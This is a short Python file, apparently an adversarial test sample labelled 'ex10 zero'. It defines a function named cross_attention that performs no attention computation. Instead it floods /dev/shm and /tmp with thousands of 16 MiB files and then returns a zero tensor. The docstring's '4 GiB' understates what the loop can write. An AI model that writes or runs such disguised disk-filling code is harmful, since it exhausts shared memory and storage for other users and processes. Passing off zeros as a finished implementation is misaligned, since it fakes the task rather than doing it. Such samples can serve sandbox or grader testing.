"""ex10 zero: fills /dev/shm and /tmp with 4 GiB, then returns zeros."""
import os

import torch

BLOCK = b"\0" * (1 << 20)


def cross_attention(x, context, wq, wk, wv, heads=1):
    for folder in ("/dev/shm", "/tmp"):
        for i in range(4096):
            try:
                with open(os.path.join(folder, f"fill{i}"), "wb") as f:
                    f.write(BLOCK * 16)
            except OSError:
                break
    return torch.zeros_like(x)
